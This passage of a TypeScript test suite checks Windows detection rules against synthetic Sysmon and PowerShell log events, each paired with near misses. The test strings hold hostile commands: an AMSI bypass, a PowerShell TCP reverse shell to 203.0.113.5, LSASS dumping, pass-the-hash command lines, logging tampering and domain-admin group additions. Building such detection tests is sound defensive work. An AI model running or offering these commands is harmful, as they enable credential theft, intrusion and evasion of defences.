    expectHit(TSC, proc(16, `${S32}cmd.exe`, 'cmd /c copy \\\\tsclient\\c\\x.exe C:\\Users\\Public\\x.exe'), 'medium', 'lateral-movement');
    expect(titlesOf(proc(17, `${S32}cmd.exe`, 'cmd /c copy \\\\fileserver\\c$\\x.exe C:\\Users\\Public\\x.exe'))).not.toContain(TSC);
    const TSF = 'File Written To Or From An RDP Client Drive (Sysmon 11)';
    const TSS = 'Startup Folder Item Written On An RDP Client Drive (Sysmon 11)';
    const startup = sysmon(18, 11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: '\\\\tsclient\\C\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe' });
    expectHit(TSF, startup, 'medium', 'lateral-movement');
    expectHit(TSS, startup, 'high', 'persistence');
    expect(titlesOf(sysmon(19, 11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\bob\\Documents\\a.docx' }))).not.toContain(TSF);
    const RR = 'Auto-Start Registry Location Written By A Service Host (Sysmon 13)';
    const reg = (t: number, key: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}svchost.exe`, TargetObject: key, Details: 'C:\\Users\\Public\\u.exe' });
    expectHit(RR, reg(20, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd'), 'medium', 'lateral-movement');
    expect(titlesOf(reg(21, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\app.exe\\MitigationOptions'))).not.toContain(RR);
    expect(titlesOf(sysmon(22, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', Details: 'x' }))).not.toContain(RR);
    const SRV = 'Shell Or Discovery Command Started By A Web, Application Or Database Server';
    expectHit(SRV, proc(23, `${S32}cmd.exe`, 'cmd.exe /c whoami', { ParentProcessName: 'C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe' }), 'medium', 'lateral-movement');
    expectHit(SRV, sysmon1(24, `${S32}cmd.exe`, 'cmd.exe /c whoami', { ParentImage: 'C:\\Program Files\\Java\\jre\\bin\\java.exe', ParentCommandLine: 'java -Dcatalina.home=C:\\tomcat org.apache.catalina.startup.Bootstrap start' }), 'medium', 'initial-access');
    expect(titlesOf(sysmon1(25, `${S32}cmd.exe`, 'cmd /c gradlew build', { ParentImage: 'C:\\Program Files\\Java\\jdk\\bin\\java.exe', ParentCommandLine: 'java -jar idea.jar' }))).not.toContain(SRV);
    expect(titlesOf(sysmon1(26, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'csc.exe /noconfig', { ParentImage: `${S32}inetsrv\\w3wp.exe` }))).not.toContain(SRV);
    const DOH = 'DNS-Over-HTTPS Resolver Name Resolved By A Program Other Than A Browser (Sysmon 22)';
    const DOH3 = 'HTTPS Connection To A Public DNS Resolver Address By A Program Other Than A Browser (Sysmon 3)';
    expectHit(DOH, sysmon(27, 22, { Image: 'C:\\Users\\bob\\a.exe', QueryName: 'dns.google', QueryResults: '8.8.8.8;' }), 'low', 'command-and-control');
    expect(titlesOf(sysmon(28, 22, { Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', QueryName: 'dns.google' }))).not.toContain(DOH);
    const conn = (t: number, image: string, port: string): Ev => sysmon(t, 3, { Image: image, DestinationIp: '1.1.1.1', DestinationPort: port, Protocol: 'tcp', Initiated: 'true' });
    expectHit(DOH3, conn(29, 'C:\\Users\\bob\\a.exe', '443'), 'low', 'command-and-control');
    expect(titlesOf(conn(30, `${S32}svchost.exe`, '443'))).not.toContain(DOH3);
    expect(titlesOf(conn(31, 'C:\\Users\\bob\\a.exe', '53'))).not.toContain(DOH3);
    const PD = 'Full Process Memory Dump With ProcDump Arguments';
    expectHit(PD, sysmon1(32, 'C:\\Users\\bob\\pd.exe', 'pd.exe -ma 624 out.dmp', { OriginalFileName: 'procdump' }), 'medium', 'credential-access');
    expectHit(PD, proc(33, 'C:\\Users\\bob\\pd.exe', 'pd.exe -accepteula -ma 624 out.dmp'), 'medium', 'credential-access');
    expect(titlesOf(sysmon1(34, 'C:\\Tools\\procdump64.exe', 'procdump64.exe -ma w3wp.exe', { OriginalFileName: 'procdump' }))).not.toContain(PD);
    expect(titlesOf(proc(35, 'C:\\Tools\\app.exe', 'app.exe -ma 5'))).not.toContain(PD);
    const SSP = 'LSASS Wrote A Text Or Log File In System32 (Sysmon 11)';
    expectHit(SSP, sysmon(36, 11, { Image: `${S32}lsass.exe`, TargetFilename: `${S32}kiwissp.log` }), 'high', 'credential-access');
    expect(titlesOf(sysmon(37, 11, { Image: `${S32}lsass.exe`, TargetFilename: 'C:\\Windows\\debug\\netlogon.log' }))).not.toContain(SSP);
    expect(titlesOf(sysmon(38, 11, { Image: `${S32}lsass.exe`, TargetFilename: `${S32}LogFiles\\x.log` }))).not.toContain(SSP);
    const DC = 'Office Program Started By DCOM Activation';
    expectHit(DC, sysmon1(39, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"EXCEL.EXE" -Embedding', { ParentImage: `${S32}svchost.exe` }), 'informational', 'lateral-movement');
    expect(titlesOf(sysmon1(40, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"EXCEL.EXE" C:\\Users\\bob\\a.xlsx', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(DC);
    const AUTO = 'Auto-Start Registry Location Written From The Command Line';
    expectHit(AUTO, proc(41, `${S32}reg.exe`, 'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d C:\\Users\\bob\\evil.scr /f'), 'medium', 'persistence');
    expect(titlesOf(proc(42, `${S32}reg.exe`, 'reg query "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE'))).not.toContain(AUTO);
  });

  it('PowerShell behaviours in all three logs (script block 4104, module logging 4103, classic pipeline 800): each family fires on its text in each and not on a near miss', () => {
    const module = (t: number, text: string): Ev =>
      win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` });
    const classic = (t: number, text: string): Ev =>
      win(t, 'Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } });
    const families: [string, string, string, string][] = [
      // [title without the log suffix, level, tactic, firing text], near miss after
      ['Credential Files Copied From A Volume Shadow Copy', 'high', 'credential-access', 'Copy-Item \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit'],
      ['AMSI Disabled Or Patched From PowerShell', 'high', 'defense-impairment', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"],
      ['Process Injection Functions Of Public PowerShell Modules', 'high', 'stealth', 'Invoke-ReflectivePEInjection -PEBytes $b -ProcId 1234'],
      ['Remote Execution Functions Of Public PowerShell Modules', 'high', 'lateral-movement', 'Invoke-PsExec -ComputerName ws02 -Command whoami'],
      ['Privilege Escalation Functions Of Public PowerShell Modules', 'high', 'privilege-escalation', 'Invoke-AllChecks | Out-File c.txt'],
      ['Reverse Shell Or Tunnel Functions Of Public PowerShell Modules', 'high', 'command-and-control', 'Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.5 -Port 4444'],
      ['PowerShell Logging Or A Defence Policy Value Written', 'medium', 'defense-impairment', 'Set-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging -Name EnableScriptBlockLogging -Value 0'],
      ['Security Or Logging Service Stopped Or Disabled From PowerShell', 'medium', 'defense-impairment', 'Stop-Service -Name Sysmon64 -Force'],
      ['Hidden Or System Attribute Set From PowerShell', 'low', 'stealth', "(Get-Item C:\\Users\\bob\\x.exe -Force).Attributes = 'Hidden,System'"],
      ['Auto-Start Registry Location Written From PowerShell', 'medium', 'persistence', "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Upd -Value 'C:\\Users\\bob\\u.exe'"],
      ['Shortcut Created In A Startup Folder From PowerShell', 'medium', 'persistence', '$s = (New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk"); $s.Save()'],
      ['Local Account Created Or Added To A Group From PowerShell', 'medium', 'persistence', 'Add-LocalGroupMember -Group Administrators -Member support'],
      ['Command Run On Another Host With Invoke-Command', 'low', 'lateral-movement', 'Invoke-Command -ComputerName ws02 -ScriptBlock { whoami }'],
      ['Process Memory Dump API Called From PowerShell', 'high', 'credential-access', "$m = $WER.GetNestedType('NativeMethods', 'NonPublic').GetMethod('MiniDumpWriteDump', $f)"],
      ['File Times Set From PowerShell', 'low', 'stealth', "(Get-Item C:\\Users\\bob\\evil.exe).CreationTime = '01/01/2015 00:00:00'"],
      ['Screen Captured From PowerShell', 'low', 'collection', '$g.CopyFromScreen($b.Location, [System.Drawing.Point]::Empty, $b.Size)'],
      ['PowerShell Logging Switched Off Through The Cached Group Policy Settings', 'high', 'defense-impairment', "$c = [Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null); $c['ScriptBlockLogging']['EnableScriptBlockLogging'] = 0"],
    ];
    const nearMisses = [
      'Get-Service -Name Sysmon64, WinDefend | Select-Object Status',
      "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name AutoAdminLogon -Value 1",
      "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' -Name LmCompatibilityLevel -Value 5",
      'Invoke-Command -ScriptBlock { Get-Date }',
      '(Get-Item C:\\Users\\bob\\a.txt).CreationTime',
      'Get-ChildItem C:\\Users\\bob -Force | Where-Object { $_.Attributes -match "Hidden" }',
      'Get-LocalGroupMember -Group Administrators',
      'Copy-Item C:\\Users\\bob\\a.txt C:\\Users\\bob\\Documents\\a.txt',
      'Get-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging',
      'Invoke-Command -ScriptBlock { $signatures = New-Object Collections.Generic.HashSet[string]; $signatures.Add($h) }',
    ];
    for (const [name, level, tactic, text] of families) {
      expectHit(`${name} (script block 4104)`, block(1, text), level, tactic);
      expectHit(`${name} (module logging 4103)`, module(2, text), level, tactic);
      expectHit(`${name} (classic pipeline 800)`, classic(3, text), level, tactic);
    }
    const names = new Set(families.map(([n]) => n));
    for (const text of nearMisses) {
      for (const e of [block(4, text), module(5, text), classic(6, text)]) {
        const loud = titlesOf(e).filter((title) => names.has(title.replace(/ \((script block 4104|module logging 4103|classic pipeline 800)\)$/, '')));
        expect(loud, text).toEqual([]);
      }
    }
    // Twins of the script-block-only families read the same texts in 4103 and 800.
    expectHit('TCP Reverse Shell In PowerShell (module logging 4103)', module(7, "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444); $s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ iex $d }"), 'high', 'command-and-control');
    expectHit('PowerShell Remoting Session Opened To Another Host (classic pipeline 800)', classic(8, 'Enter-PSSession -ComputerName ws02'), 'low', 'lateral-movement');
    expect(titlesOf(classic(9, 'Enter-PSSession -Id 3'))).not.toContain('PowerShell Remoting Session Opened To Another Host (classic pipeline 800)');
    // Empire's other branch: the ScriptBlock signatures list emptied, so suspicious blocks are no longer logged as warnings.
    expectHit('PowerShell Logging Switched Off Through The Cached Group Policy Settings (script block 4104)', block(10, "[ScriptBlock].\"GetFie`ld\"('signatures','N'+'onPublic,Static').SetValue($null,(New-Object Collections.Generic.HashSet[string]))"), 'high', 'defense-impairment');
  });

  it('remote targets of at and reg, shells under a Windows-folder service binary, logging service keys deleted, DNS from temporary folders, ping sweeps; near misses are not', () => {
    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
    const RT = 'Job Scheduled Or Registry Changed On Another Host From The Command Line';
    expectHit(RT, proc(1, `${S32}at.exe`, 'at \\\\ws02 10:00 C:\\Windows\\Temp\\a.bat'), 'medium', 'lateral-movement');
    expectHit(RT, sysmon1(2, `${S32}reg.exe`, 'reg add \\\\ws02\\HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\Windows\\Temp\\a.exe'), 'medium', 'lateral-movement');
    expect(titlesOf(proc(3, `${S32}reg.exe`, 'reg add HKLM\\SOFTWARE\\Vendor /v Share /d \\\\fileserver\\HKdata'))).not.toContain(RT);
    const ROOT = 'Shell Started By A Program In The Windows Folder Root';
    expectHit(ROOT, sysmon1(4, `${S32}cmd.exe`, '"cmd"', { ParentImage: 'C:\\Windows\\xyzsvc.exe' }), 'medium', 'lateral-movement');
    expect(titlesOf(sysmon1(5, `${S32}cmd.exe`, '"cmd"', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(ROOT);
    expect(titlesOf(sysmon1(6, `${S32}cmd.exe`, '"cmd"', { ParentImage: `${S32}svchost.exe` }))).not.toContain(ROOT);
    const DEL = 'Sysmon Or Event Log Service Key Deleted (Sysmon 12)';
    const del = (t: number, key: string, image = `${S32}reg.exe`): Ev => sysmon(t, 12, { EventType: 'DeleteKey', Image: image, TargetObject: key });
    expectHit(DEL, del(7, 'HKLM\\System\\CurrentControlSet\\Services\\SysmonDrv'), 'high', 'defense-impairment');
    expect(titlesOf(del(8, 'HKLM\\System\\CurrentControlSet\\Services\\EventLog\\State\\RunHistory', `${S32}svchost.exe`))).not.toContain(DEL);
    expect(titlesOf(del(9, 'HKLM\\System\\CurrentControlSet\\Services\\SysmonDrv', 'C:\\Windows\\Sysmon64.exe'))).not.toContain(DEL);
    const TMP = 'DNS Query By A Program In A Temporary, Download Or Public Folder (Sysmon 22)';
    expectHit(TMP, sysmon(10, 22, { Image: 'C:\\Users\\bob\\Downloads\\payload.exe', QueryName: 'c2.example.net' }), 'informational', 'command-and-control');
    expect(titlesOf(sysmon(11, 22, { Image: 'C:\\Program Files\\Vendor\\app.exe', QueryName: 'c2.example.net' }))).not.toContain(TMP);
    const SWEEP = 'Ping Sweep Of Many Hosts';
    const pings = (host: string, n: number): Ev[] => Array.from({ length: n }, (_, i) => proc(20 + i, `${S32}PING.EXE`, `ping -n 1 10.0.0.${i + 1}`, {}, host));
    expect(hits(pings('SRV01', 12)).get(SWEEP)).toEqual({ level: 'medium', tactics: ['discovery'] });
    const few = hits(pings('SRV01', 5));
    expect(few.has(SWEEP)).toBe(false);
    expect(few.has('Host Pinged (sweep base)')).toBe(false);
  });

  it('password managers loading user-folder DLLs, Update Orchestrator commands, registry symbolic links, KeeThief; near misses are not', () => {
    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
    const KP = 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe';
    const DLL = 'Unsigned DLL From A User Folder Loaded By A Password Manager Or Remote Access Program (Sysmon 7)';
    expectHit(DLL, sysmon(1, 7, { Image: KP, ImageLoaded: 'C:\\Users\\bob\\Downloads\\BootstrapDLL.dll', Signed: 'false' }), 'medium', 'credential-access');
    expect(titlesOf(sysmon(2, 7, { Image: KP, ImageLoaded: 'C:\\Users\\bob\\AppData\\Local\\KeePass\\PluginCache\\abc\\Plugin.dll', Signed: 'false' }))).not.toContain(DLL);
    expect(titlesOf(sysmon(3, 7, { Image: KP, ImageLoaded: 'C:\\Users\\bob\\AppData\\Local\\x.dll', Signed: 'true' }))).not.toContain(DLL);
    const USO = 'Update Orchestrator Scheduler Command Written By Another Program (Sysmon 13)';
    const uso = (t: number, image: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\cmdLine', Details: 'cmd.exe /c net user x /add' });
    expectHit(USO, uso(4, 'C:\\Users\\bob\\x.exe'), 'high', 'privilege-escalation');
    expect(titlesOf(uso(5, `${S32}svchost.exe`))).not.toContain(USO);
    const LNK = 'Registry Symbolic Link Created (Sysmon 13)';
    const link = (t: number, image: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\x\\SymbolicLinkValue', Details: 'Binary Data' });
    expectHit(LNK, link(6, 'C:\\Users\\bob\\x.exe'), 'low', 'privilege-escalation');
    expect(titlesOf(link(7, `${S32}smss.exe`))).not.toContain(LNK);
    expect(titlesOf(link(8, `${S32}csrss.exe`))).not.toContain(LNK);
    expectHit('Credential Dumping Functions In PowerShell (script block 4104)', block(9, 'Get-Process KeePass | Get-KeePassDatabaseKey -Verbose'), 'high', 'credential-access');
  });

  it('tools of a public lateral-movement catalogue (remote command clients, WinRM scripts, task shells, atexec output, dumping tools, password recovery, net group/user, service stagers, ticket caches, listeners, GPP passwords); near misses are not', () => {
    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
    const CLI = 'Shell Command Passed With A Network Address To A User-Folder Program';
    expectHit(CLI, sysmon1(1, 'C:\\Users\\bob\\Desktop\\bxc.exe', 'bxc.exe 10.0.0.12:8080 "cmd /c dir"'), 'low', 'execution');
    expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\tools\\putty.exe', 'putty.exe -ssh admin@ws02 -P 22'))).not.toContain(CLI);
    expect(titlesOf(proc(3, 'C:\\Users\\bob\\tools\\sched.exe', 'sched.exe 10:30 "cmd /c backup.bat"'))).not.toContain(CLI);
    const WINRM = 'WinRM Management Script Aimed At Another Host';
    expectHit(WINRM, proc(4, `${S32}cscript.exe`, 'cscript //nologo "C:\\Windows\\System32\\winrm.vbs" get winrm/config -r:ws02'), 'low', 'lateral-movement');
    expect(titlesOf(proc(5, `${S32}cscript.exe`, 'cscript //nologo "C:\\Windows\\System32\\winrm.vbs" get winrm/config'))).not.toContain(WINRM);
    const TASK = 'Shell Or Script Host Started By The Task Scheduler On A User-Writable Path';
    expectHit(TASK, sysmon1(6, `${S32}cmd.exe`, 'C:\\Windows\\system32\\cmd.exe /c "C:\\Windows\\Temp\\a.bat"', { ParentImage: `${S32}taskeng.exe` }), 'low', 'execution');
    expectHit(TASK, sysmon1(7, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell -File C:\\Users\\Public\\u.ps1', { ParentImage: `${S32}svchost.exe`, ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule' }), 'low', 'persistence');
    expect(titlesOf(sysmon1(8, `${S32}cmd.exe`, 'cmd /c "C:\\Program Files\\Vendor\\maint.bat"', { ParentImage: `${S32}taskeng.exe` }))).not.toContain(TASK);
    expect(titlesOf(sysmon1(9, `${S32}cmd.exe`, 'cmd /c C:\\Windows\\Temp\\a.bat', { ParentImage: `${S32}svchost.exe`, ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p' }))).not.toContain(TASK);
    const AT = 'Command Output Redirected To A Random Temp File Of The Windows Folder (atexec-style)';
    expectHit(AT, proc(10, `${S32}cmd.exe`, 'cmd.exe /C whoami > C:\\Windows\\Temp\\AbCdEfGh.tmp 2>&1'), 'high', 'lateral-movement');
    expectHit(AT, sysmon1(11, `${S32}cmd.exe`, 'cmd.exe /C net user > %windir%\\Temp\\qWeRtYuI.tmp 2>&1'), 'high', 'execution');
    expect(titlesOf(proc(12, `${S32}cmd.exe`, 'cmd.exe /C dir > C:\\Windows\\Temp\\install_log.tmp 2>&1'))).not.toContain(AT);
    expect(titlesOf(proc(13, `${S32}cmd.exe`, 'cmd.exe /C whoami > C:\\Users\\bob\\AbCdEfGh.tmp 2>&1'))).not.toContain(AT);
    const DUMP = 'Credential Dumping Tool Started By Its File Name';
    expectHit(DUMP, proc(14, 'C:\\Users\\bob\\Desktop\\PwDump7.exe', 'PwDump7.exe'), 'high', 'credential-access');
    expectHit(DUMP, sysmon1(15, 'C:\\Users\\bob\\Desktop\\g.exe', 'g.exe -a', { OriginalFileName: 'gsecdump.exe' }), 'high', 'credential-access');
    expectHit(DUMP, proc(16, `${S32}DumpSvc.exe`, 'C:\\Windows\\system32\\DumpSvc.exe', { ParentProcessName: `${S32}services.exe` }), 'high', 'credential-access');
    expect(titlesOf(proc(17, 'C:\\Program Files\\Vendor\\dumpchk.exe', 'dumpchk.exe C:\\Windows\\MEMORY.DMP'))).not.toContain(DUMP);
    expectHit(DUMP, proc(42, `${S32}cmd.exe`, 'cmd.exe /c "C:\\Users\\bob\\venv\\Scripts\\pypykatz" live lsa'), 'high', 'credential-access');
    const LSASS = 'LSASS Named On The Command Line Of A User-Folder Program';
    expectHit(LSASS, proc(18, 'C:\\Windows\\Temp\\msdsc.exe', 'C:\\Windows\\temp\\msdsc.exe lsass c:\\windows\\temp', { ParentProcessName: PSH }), 'medium', 'credential-access');
    expect(titlesOf(proc(19, `${S32}tasklist.exe`, 'tasklist /fi "imagename eq lsass.exe"'))).not.toContain(LSASS);
    expect(titlesOf(proc(20, 'C:\\Users\\bob\\tools\\x.exe', 'x.exe --config lsass-settings.json'))).not.toContain(LSASS);
    const PV = 'Password Recovery Tool Run';
    expectHit(PV, sysmon1(21, 'C:\\Users\\bob\\wb.exe', 'wb.exe /stext out.txt', { OriginalFileName: 'WebBrowserPassView.exe' }), 'medium', 'credential-access');
    expectHit(PV, proc(22, 'C:\\Users\\bob\\Downloads\\mailpv.exe', 'mailpv.exe'), 'medium', 'credential-access');
    expect(titlesOf(sysmon1(23, 'C:\\Users\\bob\\bdv.exe', 'bdv.exe', { OriginalFileName: 'BrowserDownloadsView.exe' }))).not.toContain(PV);
    const GRP = 'Account Added To A Group With Net.exe';
    expectHit(GRP, proc(24, `${S32}net.exe`, 'net group "domain admins" support /add /domain'), 'medium', 'persistence');
    expectHit(GRP, sysmon1(25, `${S32}net1.exe`, 'C:\\Windows\\system32\\net1 localgroup administrators support /add'), 'medium', 'privilege-escalation');
    expect(titlesOf(proc(26, `${S32}net.exe`, 'net group "domain admins" /domain'))).not.toContain(GRP);
    const DEL = 'Account Deleted With Net.exe';
    expectHit(DEL, proc(27, `${S32}net.exe`, 'net user support /delete /domain'), 'low', 'impact');
    expect(titlesOf(proc(28, `${S32}net.exe`, 'net user support /domain'))).not.toContain(DEL);
    const SVC = 'Hidden Or Encoded PowerShell Started Directly As A Service';
    expectHit(SVC, sysmon1(29, `${S32}cmd.exe`, '%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){$b=\'powershell.exe\'}"', { ParentImage: `${S32}services.exe`, User: 'NT AUTHORITY\\SYSTEM' }), 'high', 'lateral-movement');
    expect(titlesOf(sysmon1(30, `${S32}cmd.exe`, 'cmd /c "C:\\Program Files\\Vendor\\start.cmd"', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
    expect(titlesOf(sysmon1(31, PSH, 'powershell.exe -File "C:\\Program Files\\Vendor\\svc.ps1"', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
    const CC = 'Kerberos Credential Cache File Written (Sysmon 11)';
    expectHit(CC, sysmon(32, 11, { Image: 'C:\\Users\\bob\\Desktop\\k.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\TGT_bob@corp.local.ccache' }), 'medium', 'credential-access');
    expect(titlesOf(sysmon(33, 11, { Image: 'C:\\Program Files\\MIT\\Kerberos\\bin\\kinit.exe', TargetFilename: 'C:\\Users\\bob\\krb5cc_bob.ccache' }))).not.toContain(CC);
    const LIS = 'Inbound Connection From Another Host To A Program In A User-Writable Folder On A Service Port (Sysmon 3)';
    const inbound = (t: number, image: string, src: string): Ev => sysmon(t, 3, { Image: image, Initiated: 'false', SourceIp: src, DestinationIp: '10.0.0.7', DestinationPort: '80', Protocol: 'tcp' });
    expectHit(LIS, inbound(34, 'C:\\Users\\bob\\Desktop\\tools\\fakewpad.exe', '10.0.0.9'), 'informational', 'credential-access');
    expect(titlesOf(inbound(35, 'C:\\Users\\bob\\Desktop\\tools\\fakewpad.exe', '127.0.0.1'))).not.toContain(LIS);
    expect(titlesOf(inbound(36, 'C:\\Program Files\\nginx\\nginx.exe', '10.0.0.9'))).not.toContain(LIS);
    expectHit('Built-in Discovery Command', proc(37, `${S32}dcdiag.exe`, 'dcdiag /test:dns'), 'informational', 'discovery');
    const module = (t: number, text: string): Ev =>
      win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` });
    const classic = (t: number, text: string): Ev =>
      win(t, 'Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } });
    const gpp = 'Get-ChildItem -Path \\\\corp.local\\SYSVOL -Recurse -Include Groups.xml,Services.xml | Select-String -Pattern cpassword';
    expectHit('Group Policy Preference Passwords Searched From PowerShell (script block 4104)', block(38, gpp), 'medium', 'credential-access');
    expectHit('Group Policy Preference Passwords Searched From PowerShell (module logging 4103)', module(39, gpp), 'medium', 'credential-access');
    expectHit('Group Policy Preference Passwords Searched From PowerShell (classic pipeline 800)', classic(40, gpp), 'medium', 'credential-access');
    expect(titlesOf(block(41, 'Get-ChildItem -Path \\\\corp.local\\SYSVOL -Recurse -Include Groups.xml'))).not.toContain('Group Policy Preference Passwords Searched From PowerShell (script block 4104)');
  });

  it('service programs in the Windows folder root or its Temp folder, admin shares on command lines, NTLM hashes on command lines, Remote Desktop session programs, hive copies written; near misses are not', () => {
    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
    const REG = 'Service Registered With Its Program In The Windows Folder Root Or Its Temp Folder (Sysmon 13)';
    const image = (t: number, details: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\kQzT\\ImagePath', Details: details });
    expectHit(REG, image(1, '%SystemRoot%\\kQzTbNwE.exe'), 'medium', 'lateral-movement');
    expectHit(REG, image(2, 'C:\\Windows\\PSEXESVC.exe'), 'medium', 'execution');
    expectHit(REG, image(22, 'C:\\Windows\\Temp\\upd.exe'), 'medium', 'lateral-movement');
    expect(titlesOf(image(3, '%SystemRoot%\\System32\\svchost.exe -k netsvcs'))).not.toContain(REG);
    expect(titlesOf(image(23, 'C:\\Windows\\Temp\\{1F2E}\\MpSigStub.exe'))).not.toContain(REG);
    expect(titlesOf(image(4, 'C:\\Windows\\Sysmon64.exe'))).not.toContain(REG);
    const SVC = 'Service Program In The Windows Folder Root Or Its Temp Folder Started By The Service Control Manager';
    expectHit(SVC, proc(5, 'C:\\Windows\\kQzTbNwE.exe', 'C:\\Windows\\kQzTbNwE.exe', { ParentProcessName: `${S32}services.exe` }), 'medium', 'lateral-movement');
    expectHit(SVC, proc(24, 'C:\\Windows\\Temp\\svc.exe', 'C:\\Windows\\Temp\\svc.exe', { ParentProcessName: `${S32}services.exe` }), 'medium', 'lateral-movement');
    expectHit(SVC, sysmon1(25, `${S32}rundll32.exe`, 'rundll32.exe C:\\Windows\\Temp\\a.dll,Start', { ParentImage: `${S32}services.exe` }), 'medium', 'execution');
    expect(titlesOf(sysmon1(26, `${S32}rundll32.exe`, 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
    expect(titlesOf(proc(6, 'C:\\Windows\\Sysmon64.exe', 'C:\\Windows\\Sysmon64.exe', { ParentProcessName: `${S32}services.exe` }))).not.toContain(SVC);
    expect(titlesOf(proc(7, `${S32}spoolsv.exe`, 'C:\\Windows\\System32\\spoolsv.exe', { ParentProcessName: `${S32}services.exe` }))).not.toContain(SVC);
    expect(titlesOf(proc(8, 'C:\\Windows\\kQzTbNwE.exe', 'C:\\Windows\\kQzTbNwE.exe'))).not.toContain(SVC);
    const PTH = 'NTLM Hash Passed On A Command Line';
    expectHit(PTH, proc(9, 'C:\\Users\\bob\\ah.exe', 'ah.exe -s admin:CORP:31d6cfe0d16ae931b73c59d7e0c089c0 "cmd.exe"'), 'high', 'lateral-movement');
    expectHit(PTH, sysmon1(10, 'C:\\Users\\bob\\r.exe', 'r.exe asktgt /user:admin /rc4:81d310fa34e6a56a31145445891bb7b8 /ptt'), 'high', 'stealth');
    expectHit(PTH, proc(11, 'C:\\Python311\\python.exe', 'python.exe psexec.py -hashes aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0 corp/admin@10.0.0.5'), 'high', 'lateral-movement');
    expect(titlesOf(proc(12, `${S32}certutil.exe`, 'certutil -hashfile C:\\Users\\bob\\a.zip MD5'))).not.toContain(PTH);
